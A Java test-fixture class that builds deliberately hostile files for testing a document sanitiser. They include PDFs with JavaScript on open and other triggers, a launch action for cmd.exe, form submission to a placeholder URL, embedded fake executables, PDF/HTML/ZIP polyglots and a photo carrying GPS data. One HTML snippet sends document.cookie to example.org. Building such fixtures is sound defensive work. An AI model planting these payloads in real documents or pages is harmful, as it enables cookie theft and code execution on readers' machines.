package sv.gob.inpep.sesep.documents.control;

import com.itextpdf.kernel.geom.Rectangle;
import com.itextpdf.kernel.pdf.PdfArray;
import com.itextpdf.kernel.pdf.PdfDictionary;
import com.itextpdf.kernel.pdf.PdfDocument;
import com.itextpdf.kernel.pdf.PdfName;
import com.itextpdf.kernel.pdf.PdfPage;
import com.itextpdf.kernel.pdf.PdfString;
import com.itextpdf.kernel.pdf.PdfWriter;
import com.itextpdf.kernel.pdf.action.PdfAction;
import com.itextpdf.kernel.pdf.annot.PdfAnnotation;
import com.itextpdf.kernel.pdf.annot.PdfFileAttachmentAnnotation;
import com.itextpdf.kernel.pdf.annot.PdfLinkAnnotation;
import com.itextpdf.kernel.pdf.filespec.PdfFileSpec;
import com.itextpdf.kernel.pdf.filespec.PdfStringFS;
import com.itextpdf.layout.Document;
import com.itextpdf.layout.element.Paragraph;

import javax.imageio.ImageIO;
import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.function.Consumer;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Files built the way attackers build them, each with a page of text that must survive the
 * rewrite: every kind of active content a PDF reader runs, files that are two formats at once and
 * a phone photo that gives away where it was taken.
 */
final class HostileFiles {

    static final String TEXT = "Constancia de tiempo de servicio de Señora Muñoz";
    /** What must not reach an agent or a citizen in any stored file. */
    static final String[] ACTIVE = {"/JavaScript", "/JS", "/OpenAction", "/Launch", "/EmbeddedFiles", "/AA",
            "/RichMedia", "/XFA", "/URI", "/SubmitForm", "/ImportData", "/GoToR"};
    /** The position written into the photo's EXIF block. */
    static final String GPS = "GPS 13.6929 N 89.2182 W";

    private HostileFiles() {
    }

    /** JavaScript run on opening (OpenAction), from the names tree, and on every trigger there is. */
    static byte[] javaScriptPdf() {
        return pdf(pdf -> {
            PdfPage page = pdf.getFirstPage();
            pdf.getCatalog().setOpenAction(PdfAction.createJavaScript("app.alert('abierto')"));
            pdf.getCatalog().setAdditionalAction(PdfName.WC, PdfAction.createJavaScript("app.alert('cerrando')"));
            page.setAdditionalAction(PdfName.O, PdfAction.createJavaScript("app.alert('página')"));
            PdfDictionary names = new PdfDictionary();
            names.put(PdfName.Names, new PdfArray(java.util.List.of(new PdfString("inicio"),
                    PdfAction.createJavaScript("this.exportDataObject({cName: 'x'})").getPdfObject().makeIndirect(pdf))));
            PdfDictionary tree = new PdfDictionary();
            tree.put(PdfName.JavaScript, names.makeIndirect(pdf));
            pdf.getCatalog().put(PdfName.Names, tree);
            PdfLinkAnnotation link = new PdfLinkAnnotation(new Rectangle(36, 700, 200, 20));
            link.setAction(PdfAction.createJavaScript("app.launchURL('http://example.org')"));
            PdfDictionary linkActions = new PdfDictionary();
            linkActions.put(PdfName.E, PdfAction.createJavaScript("app.alert('encima')").getPdfObject());
            link.getPdfObject().put(PdfName.AA, linkActions);
            page.addAnnotation(link);
            // A form field whose widget runs a script when it gets the focus, and an XFA form.
            PdfDictionary widget = new PdfDictionary();
            widget.put(PdfName.Type, PdfName.Annot);
            widget.put(PdfName.Subtype, PdfName.Widget);
            widget.put(PdfName.FT, PdfName.Tx);
            widget.put(PdfName.T, new PdfString("nombre"));
            widget.put(PdfName.Rect, new PdfArray(new float[]{36, 600, 236, 620}));
            PdfDictionary widgetActions = new PdfDictionary();
            widgetActions.put(PdfName.Fo, PdfAction.createJavaScript("app.alert('campo')").getPdfObject());
            widget.put(PdfName.AA, widgetActions);
            // Its parent field runs a script on every keystroke (field actions may sit there).
            PdfDictionary field = new PdfDictionary();
            field.put(PdfName.T, new PdfString("datos"));
            PdfDictionary fieldActions = new PdfDictionary();
            fieldActions.put(PdfName.K, PdfAction.createJavaScript("app.alert('tecla')").getPdfObject());
            field.put(PdfName.AA, fieldActions);
            field.put(PdfName.Kids, new PdfArray(widget));
            widget.put(PdfName.Parent, field.makeIndirect(pdf));
            widget.makeIndirect(pdf);
            page.addAnnotation(PdfAnnotation.makeAnnotation(widget));
            PdfDictionary form = new PdfDictionary();
            form.put(PdfName.Fields, new PdfArray(field));
            form.put(PdfName.XFA, new PdfString("<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>"));
            pdf.getCatalog().put(PdfName.AcroForm, form);
        });
    }

    /** A link that starts a program, one that submits the form, and one that opens another file. */
    static byte[] launchPdf() {
        return pdf(pdf -> {
            PdfPage page = pdf.getFirstPage();
            PdfLinkAnnotation launch = new PdfLinkAnnotation(new Rectangle(36, 700, 200, 20));
            launch.setAction(PdfAction.createLaunch(new PdfStringFS("C:\\Windows\\System32\\cmd.exe")));
            page.addAnnotation(launch);
            PdfLinkAnnotation submit = new PdfLinkAnnotation(new Rectangle(36, 660, 200, 20));
            submit.setAction(PdfAction.createSubmitForm("http://example.org/robar", null, 0));
            page.addAnnotation(submit);
            PdfLinkAnnotation web = new PdfLinkAnnotation(new Rectangle(36, 620, 200, 20));
            web.setAction(PdfAction.createURI("http://example.org/phishing"));
            page.addAnnotation(web);
            PdfDictionary remote = new PdfDictionary();
            remote.put(PdfName.S, PdfName.GoToR);
            remote.put(PdfName.F, new PdfString("\\\\servidor\\share\\otro.pdf"));
            PdfDictionary importData = new PdfDictionary();
            importData.put(PdfName.S, new PdfName("ImportData"));
            importData.put(PdfName.F, new PdfString("datos.fdf"));
            remote.put(PdfName.Next, importData);
            PdfLinkAnnotation other = new PdfLinkAnnotation(new Rectangle(36, 580, 200, 20));
            other.getPdfObject().put(PdfName.A, remote);
            page.addAnnotation(other);
        });
    }

    /** An executable embedded in the document and attached to the page, and a Flash-era player. */
    static byte[] embeddedFilePdf() {
        return pdf(pdf -> {
            byte[] program = "MZ este es el programa".getBytes(StandardCharsets.US_ASCII);
            pdf.addFileAttachment("programa", PdfFileSpec.createEmbeddedFileSpec(pdf, program, "factura", "factura.exe", null, null));
            pdf.getFirstPage().addAnnotation(new PdfFileAttachmentAnnotation(new Rectangle(36, 700, 20, 20),
                    PdfFileSpec.createEmbeddedFileSpec(pdf, program, "adjunto", "adjunto.exe", null, null)));
            PdfDictionary richMedia = new PdfDictionary();
            richMedia.put(PdfName.Type, PdfName.Annot);
            richMedia.put(PdfName.Subtype, PdfName.RichMedia);
            richMedia.put(PdfName.Rect, new PdfArray(new float[]{36, 500, 236, 600}));
            richMedia.put(new PdfName("RichMediaContent"), new PdfDictionary());
            pdf.getFirstPage().addAnnotation(PdfAnnotation.makeAnnotation(richMedia));
        });
    }

    /** A real PDF followed by an HTML page and a ZIP archive: the same bytes open in three programs. */
    static byte[] polyglotPdf() {
        return concat(plainPdf(), html(), zip());
    }

    /** An HTML page with a PDF after it: browsers render the page. */
    static byte[] htmlThenPdf() {
        return concat(html(), plainPdf());
    }

    /**
     * A PDF encrypted with the standard security handler (RC4, 40 bits), as a file protected with a
     * password declares itself in its trailer. Written by hand: iText needs Bouncy Castle, which
     * SESEP does not ship, to encrypt as much as to decrypt.
     */
    static byte[] passwordPdf() {
        String hex32 = "28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A";
        String[] objects = {
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
            "<< /Filter /Standard /V 1 /R 2 /O <" + hex32 + "> /U <" + hex32 + "> /P -3904 >>"};
        StringBuilder pdf = new StringBuilder("%PDF-1.4\n");
        int[] offsets = new int[objects.length];
        for (int i = 0; i < objects.length; i++) {
            offsets[i] = pdf.length();
            pdf.append(i + 1).append(" 0 obj\n").append(objects[i]).append("\nendobj\n");
        }
        int xref = pdf.length();
        pdf.append("xref\n0 ").append(objects.length + 1).append("\n0000000000 65535 f \n");
        for (int offset : offsets) {
            pdf.append(String.format("%010d 00000 n \n", offset));
        }
        pdf.append("trailer\n<< /Size ").append(objects.length + 1).append(" /Root 1 0 R /Encrypt 4 0 R /ID [<")
                .append(hex32, 0, 32).append("> <").append(hex32, 0, 32).append(">] >>\nstartxref\n").append(xref)
                .append("\n%%EOF\n");
        return pdf.toString().getBytes(StandardCharsets.US_ASCII);
    }

    static byte[] plainPdf() {
        return pdf(pdf -> {
        });
    }

    /**
     * A JPEG as a phone saves it: an EXIF block with the place it was taken, and after the image's
     * end a ZIP archive someone appended.
     */
    static byte[] photoWithGpsAndTail() {
        byte[] jpeg = image("jpg");
        byte[] exif = ("Exif\0\0" + "II*\0" + GPS).getBytes(StandardCharsets.ISO_8859_1);
        ByteBuffer app1 = ByteBuffer.allocate(4 + exif.length);
        app1.put((byte) 0xFF).put((byte) 0xE1).putShort((short) (2 + exif.length)).put(exif);
        byte[] start = {jpeg[0], jpeg[1]};
        byte[] rest = java.util.Arrays.copyOfRange(jpeg, 2, jpeg.length);
        return concat(start, app1.array(), rest, zip());
    }

    static byte[] pngWithTail() {
        return concat(image("png"), html());
    }

    static byte[] image(String format) {
        BufferedImage image = new BufferedImage(120, 80, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = image.createGraphics();
        g.setColor(Color.WHITE);
        g.fillRect(0, 0, 120, 80);
        g.setColor(Color.BLUE);
        g.fillRect(10, 10, 50, 30);
        g.dispose();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            ImageIO.write(image, format, out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    static byte[] html() {
        return "<html><body><script>document.location='http://example.org/?c='+document.cookie</script></body></html>"
                .getBytes(StandardCharsets.US_ASCII);
    }

    static byte[] zip() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("factura.exe"));
            zip.write("MZ este es el programa".getBytes(StandardCharsets.US_ASCII));
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] pdf(Consumer<PdfDocument> arm) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (Document doc = new Document(new PdfDocument(new PdfWriter(out)))) {
            doc.add(new Paragraph(TEXT));
            arm.accept(doc.getPdfDocument());
        }
        return out.toByteArray();
    }
}
